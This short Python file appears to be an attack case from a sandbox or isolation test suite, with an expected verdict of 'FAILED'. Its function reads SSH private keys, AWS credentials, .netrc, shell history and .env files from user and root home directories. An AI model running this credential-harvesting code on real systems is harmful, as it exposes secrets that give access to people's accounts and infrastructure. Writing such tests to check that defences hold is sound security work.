"""Looks for keys and passwords in every home folder."""

# /// attack
# verdicts = { open_vault = "FAILED" }
# ///

import os

import loot
import targets


def open_vault(n):
    for home in (os.path.expanduser("~"), "/root", targets.FOLDER + "/home"):
        for name in (".ssh/id_rsa", ".aws/credentials", ".netrc", ".bash_history", ".env"):
            loot.read(os.path.join(home, name))
    return loot.answer(n)
